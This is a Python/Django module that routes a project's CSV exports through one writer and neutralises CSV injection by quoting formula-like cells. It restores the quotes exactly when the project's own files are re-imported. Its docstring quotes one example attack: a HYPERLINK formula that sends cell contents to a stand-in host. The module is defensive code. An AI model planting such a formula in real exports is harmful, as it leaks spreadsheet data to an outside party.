"""The one CSV writer of the project: every CSV export (the assistance database, the matrices and
their open data, the statistics, the dashboard's figures, in the pages and the API) goes through
it, so that a cell can never run as a formula in a spreadsheet and Excel reads the file as UTF-8.

A title such as ``=HYPERLINK("http://evil.example/x?"&B2,"Open")``, written by a point of contact
or an offering state, would otherwise be a live formula on the secretariat's machine. OWASP's
rule (CSV injection): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is prefixed with a single quote, which spreadsheets show as text. Numbers stay
numbers: a negative figure is not a formula.

Our own files come back (the matrices' open data is re-imported): ``restore_cell`` undoes the
prefix exactly. So that the two are inverse for every text, a text that already starts with
quotes followed by one of those characters (``'=x``) gets one more quote too; the reader then
removes exactly one from any cell that starts with quotes followed by one of them.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import StreamingHttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain number written as text ("-12", "+3.5"): Excel reads it as a number, never a formula.
PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?")
# Quotes followed by a formula start: what the writer prefixed, or a text that would read as
# prefixed and is therefore prefixed once more.
QUOTED_FORMULA = re.compile(r"'+[=+\-@\t\r]")
# The byte order mark that makes Excel read UTF-8 (accented and non-Latin names) rather than
# the machine's legacy code page.
BOM = "\ufeff"


def safe_cell(value: object) -> object:
    """A cell as it may be written: numbers as they are, formula-like text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    if QUOTED_FORMULA.match(text):
        return "'" + text
    return text


def restore_cell(text: str) -> str:
    """A text cell of one of our CSV files as it was before ``safe_cell``: the one quote the
    writer put before a formula-like text is removed, nothing else."""
    if QUOTED_FORMULA.match(text):
        return text[1:]
    return text


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class _Echo:
    """A file that hands back what is written: the csv module formats, we stream."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable], *, bom: bool = True) -> Iterator[str]:
    """Rows as CSV text, one line at a time (for a streaming response), the first line after
    the byte order mark."""
    writer = csv.writer(_Echo(), lineterminator="\r\n")
    if bom:
        yield BOM
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_text(rows: Iterable[Iterable], *, bom: bool = True) -> str:
    return "".join(csv_lines(rows, bom=bom))


def csv_response(filename: str, rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A CSV download, streamed row by row (an export may hold every state's matrix)."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response
